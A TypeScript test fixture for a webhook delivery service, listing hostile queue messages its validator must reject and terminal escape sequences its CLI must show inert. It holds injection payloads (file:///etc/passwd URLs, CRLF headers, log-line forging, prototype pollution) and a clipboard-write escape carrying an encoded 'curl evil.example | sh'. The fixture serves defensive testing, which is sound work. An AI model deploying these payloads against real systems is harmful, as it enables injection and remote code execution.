/*
 * Hostile message bodies: what a careless or malicious producer can put on the ingress queue.
 * Each must be dead-lettered as `invalid_envelope` with a problem that says what is wrong and
 * where, without throwing, retrying, or disturbing the valid messages of the same batch.
 */

/** One bad body. */
export interface HostileMessage {
  /** A short name, unique in the corpus. */
  readonly name: string;
  readonly body: string;
  /** A path the recorded problems must name (`policy.maxAttempts`); absent for whole-body faults. */
  readonly path?: string;
  /** The event id that can still be read, so the bad message is also recorded under it. */
  readonly readableId?: string;
}

const URL_OK = "https://receiver.example.com/hooks";

/** A valid envelope's fields with `overrides` spread on top, as JSON text. */
const envelopeWith = (id: string, overrides: Record<string, unknown>): string =>
  JSON.stringify({
    eventId: id,
    target: { type: "http", url: URL_OK },
    payload: { ok: true },
    ...overrides,
  });

/** An event id made from a corpus name: readable, so the bad message is recorded under it. */
const slug = (kind: string, name: string): string =>
  `bad-${kind}-${name.toLowerCase().replace(/[^a-z0-9]+/g, "-")}`;

/** A body whose only fault is in the policy. */
const policy = (name: string, field: string, value: unknown): HostileMessage => {
  const id = slug("policy", name);
  return {
    name: `policy ${name}`,
    body: envelopeWith(id, { policy: { [field]: value } }),
    path: `policy.${field}`,
    readableId: id,
  };
};

/** A body whose policy carries a raw JSON fragment (1e309, which JSON.parse reads as Infinity). */
const rawPolicy = (name: string, field: string, fragment: string): HostileMessage => {
  const id = slug("policy", name);
  return {
    name: `policy ${name}`,
    body: `{"eventId":"${id}","target":{"type":"http","url":"${URL_OK}"},"payload":null,"policy":{"${field}":${fragment}}}`,
    path: `policy.${field}`,
    readableId: id,
  };
};

const target = (name: string, value: unknown, path = "target"): HostileMessage => {
  const id = slug("target", name);
  return {
    name: `target ${name}`,
    body: envelopeWith(id, { target: value }),
    path,
    readableId: id,
  };
};

const badId = (name: string, eventId: unknown): HostileMessage => ({
  name: `event id ${name}`,
  body: envelopeWith("placeholder", { eventId }),
  path: "eventId",
});

const nested = (levels: number): string => `${"[".repeat(levels)}${"]".repeat(levels)}`;

export const HOSTILE_CORPUS: readonly HostileMessage[] = [
  // Not JSON at all.
  { name: "empty body", body: "" },
  { name: "whitespace only", body: "   \n\t" },
  { name: "truncated object", body: '{"eventId":"bad-truncated","target":' },
  { name: "single quotes", body: "{'eventId':'bad-single-quotes'}" },
  { name: "bare word undefined", body: "undefined" },
  { name: "bare NaN", body: "NaN" },
  { name: "trailing comma", body: '{"eventId":"bad-trailing-comma",}' },
  { name: "byte order mark", body: `\uFEFF${envelopeWith("bad-bom", {})}` },
  { name: "comment in JSON", body: `/* hi */${envelopeWith("bad-comment", {})}` },
  { name: "lone surrogate text", body: "\uD800{" },
  // JSON, but not an object.
  { name: "null", body: "null" },
  { name: "number", body: "42" },
  { name: "string", body: '"an envelope, honestly"' },
  { name: "boolean", body: "true" },
  { name: "empty array", body: "[]" },
  { name: "array holding an envelope", body: `[${envelopeWith("bad-in-array", {})}]` },
  { name: "empty object", body: "{}", path: "eventId" },
  // Missing or mistyped fields.
  {
    name: "missing payload",
    body: JSON.stringify({ eventId: "bad-no-payload", target: { type: "http", url: URL_OK } }),
    path: "payload",
    readableId: "bad-no-payload",
  },
  {
    name: "missing target",
    body: JSON.stringify({ eventId: "bad-no-target", payload: 1 }),
    path: "target",
    readableId: "bad-no-target",
  },
  {
    name: "unknown top-level key",
    body: envelopeWith("bad-extra-key", { priority: "high" }),
    readableId: "bad-extra-key",
  },
  {
    name: "version 2",
    body: envelopeWith("bad-version", { version: 2 }),
    path: "version",
    readableId: "bad-version",
  },
  {
    name: "deadline without zone",
    body: envelopeWith("bad-deadline-zone", { deadline: "2030-01-01T00:00:00" }),
    path: "deadline",
    readableId: "bad-deadline-zone",
  },
  {
    name: "deadline as a number",
    body: envelopeWith("bad-deadline-number", { deadline: 1_900_000_000 }),
    path: "deadline",
    readableId: "bad-deadline-number",
  },
  // Event ids with tricks in them.
  badId("empty", ""),
  badId("number", 12345),
  badId("null", null),
  badId("object", { id: "x" }),
  badId("10 KB long", "a".repeat(10 * 1024)),
  badId("Cyrillic look-alike", "оrder-1"),
  badId("RTL override", "order-\u202E1-redro"),
  badId("zero-width space", "order\u200B-1"),
  badId("NUL", "order\u0000-1"),
  badId("emoji", "order-💥"),
  badId("space inside", "order 1"),
  badId("newline (log injection)", "order-1\nlevel=error msg=forged"),
  badId("leading dash", "-order-1"),
  // Targets.
  target("ftp scheme", { type: "http", url: "ftp://receiver.example.com/x" }, "target.url"),
  target("file scheme", { type: "http", url: "file:///etc/passwd" }, "target.url"),
  target(
    "gopher scheme",
    { type: "http", url: "gopher://receiver.example.com:70/_x" },
    "target.url",
  ),
  target("javascript scheme", { type: "http", url: "javascript:alert(1)" }, "target.url"),
  target("data scheme", { type: "http", url: "data:text/plain,hi" }, "target.url"),
  target("relative url", { type: "http", url: "/hooks" }, "target.url"),
  target("unknown type", { type: "sqs", queue: "q" }),
  target("null", null),
  target("missing type", { url: URL_OK }),
  target(
    "lambda name with spaces",
    { type: "lambda", functionName: "my function" },
    "target.functionName",
  ),
  target(
    "reserved Idempotency-Key header",
    { type: "http", url: URL_OK, headers: { "Idempotency-Key": "forged" } },
    "target.headers",
  ),
  target(
    "CRLF in a header value",
    { type: "http", url: URL_OK, headers: { "X-Trace": "a\r\nInjected: yes" } },
    "target.headers",
  ),
  // Node refuses to send these, on every attempt: refused up front instead of burning the budget.
  target(
    "euro sign in a header value",
    { type: "http", url: URL_OK, headers: { "X-Price": "5 €" } },
    "target.headers.X-Price",
  ),
  target(
    "bell character in a header value",
    { type: "http", url: URL_OK, headers: { "X-Trace": "a\u0007b" } },
    "target.headers.X-Trace",
  ),
  target("timeout too small", { type: "http", url: URL_OK, timeoutMs: 5 }, "target.timeoutMs"),
  target(
    "timeout as a string",
    { type: "http", url: URL_OK, timeoutMs: "1000" },
    "target.timeoutMs",
  ),
  target("method TRACE", { type: "http", url: URL_OK, method: "TRACE" }, "target.method"),
  // Policies.
  policy("maxAttempts as a string", "maxAttempts", "3"),
  policy("negative maxAttempts", "maxAttempts", -1),
  policy("fractional maxAttempts", "maxAttempts", 2.5),
  policy("negative delay", "baseDelaySeconds", -1),
  policy("NaN delay as a string", "baseDelaySeconds", "NaN"),
  policy("Infinity delay as a string", "maxDelaySeconds", "Infinity"),
  rawPolicy("1e309 delay", "maxDelaySeconds", "1e309"),
  rawPolicy("-1e309 multiplier", "multiplier", "-1e309"),
  policy("shrinking multiplier", "multiplier", 0.5),
  policy("unknown jitter", "jitter", "random"),
  policy("zero deadline", "deadlineSeconds", 0),
  policy("status code 600 in retryOn", "retryOnStatus", [600]),
  policy("unknown policy key", "retries", 3),
  {
    name: "policy base above max",
    body: envelopeWith("bad-policy-base-above-max", {
      policy: { baseDelaySeconds: 100, maxDelaySeconds: 10 },
    }),
    path: "policy.baseDelaySeconds",
    readableId: "bad-policy-base-above-max",
  },
  // Sizes and shapes meant to exhaust something.
  {
    name: "payload over 1 MiB",
    body: envelopeWith("bad-huge", { payload: "x".repeat(1024 * 1024 + 10) }),
  },
  {
    name: "nesting 10k levels deep",
    body: envelopeWith("bad-deep-10k", { payload: "__DEEP__" }).replace(
      '"__DEEP__"',
      nested(10_000),
    ),
    path: "payload",
    readableId: "bad-deep-10k",
  },
  {
    name: "nesting 65 levels deep",
    body: envelopeWith("bad-deep-65", { payload: "__DEEP__" }).replace('"__DEEP__"', nested(65)),
    path: "payload",
    readableId: "bad-deep-65",
  },
  // Prototype pollution and duplicate keys.
  {
    name: "__proto__ at the top level",
    body: `{"__proto__":{"polluted":"yes"},"eventId":"bad-proto","target":{"type":"http","url":"${URL_OK}"},"payload":1}`,
    readableId: "bad-proto",
  },
  {
    name: "constructor.prototype at the top level",
    body: envelopeWith("bad-constructor", { constructor: { prototype: { polluted: "yes" } } }),
    readableId: "bad-constructor",
  },
  {
    name: "__proto__ inside the policy",
    body: `{"eventId":"bad-proto-policy","target":{"type":"http","url":"${URL_OK}"},"payload":1,"policy":{"__proto__":{"maxAttempts":1000}}}`,
    path: "policy",
    readableId: "bad-proto-policy",
  },
  {
    name: "duplicate target key, last one bad",
    body: `{"eventId":"bad-duplicate","target":{"type":"http","url":"${URL_OK}"},"payload":1,"target":{"type":"http","url":"file:///etc/passwd"}}`,
    path: "target.url",
    readableId: "bad-duplicate",
  },
];

/*
 * Text a receiver (an error page) or a producer (an envelope's key names) may put before an
 * operator's terminal: each tries to make the terminal act — write the clipboard, show a link to
 * elsewhere, retitle the window, or erase a line and print a forged one — or to reorder what it
 * shows. The CLI's human output must show all of it inert; its JSON must keep it exact.
 */
const TERMINAL_ATTACKS: readonly { readonly name: string; readonly text: string }[] = [
  { name: "OSC 52 clipboard write", text: "\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007" },
  { name: "OSC 8 link", text: "\u001b]8;;https://evil.example/\u001b\\docs\u001b]8;;\u001b\\" },
  { name: "window title", text: "\u001b]0;ricochet: all delivered\u0007" },
  { name: "cursor up and erase", text: "\u001b[1A\u001b[2K\rstatus: delivered" },
  { name: "one-byte C1 CSI", text: "\u009b2J" },
  { name: "forged line", text: "\nstatus: delivered" },
  { name: "right-to-left override", text: "\u202ederevileD" },
];

/** All of {@link TERMINAL_ATTACKS} in one string, as one hostile reply or key name carries it. */
export const TERMINAL_ATTACK = TERMINAL_ATTACKS.map((attack) => attack.text).join(" ");

/**
 * What a terminal obeys, the line feed aside (a rendering's own): C0, DEL, C1 and the bidi
 * controls. Its own statement of them, so the oracle does not share the implementation's code.
 */
export const OBEYED_BY_TERMINALS =
  // biome-ignore lint/suspicious/noControlCharactersInRegex: naming the controls is its purpose.
  /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/u;

/** Whether a terminal showing `stdout` would show a line that begins like Ricochet's own status. */
export const showsForgedStatusLine = (stdout: string): boolean =>
  stdout.split("\n").some((line) => /^\s*status: delivered/.test(line));
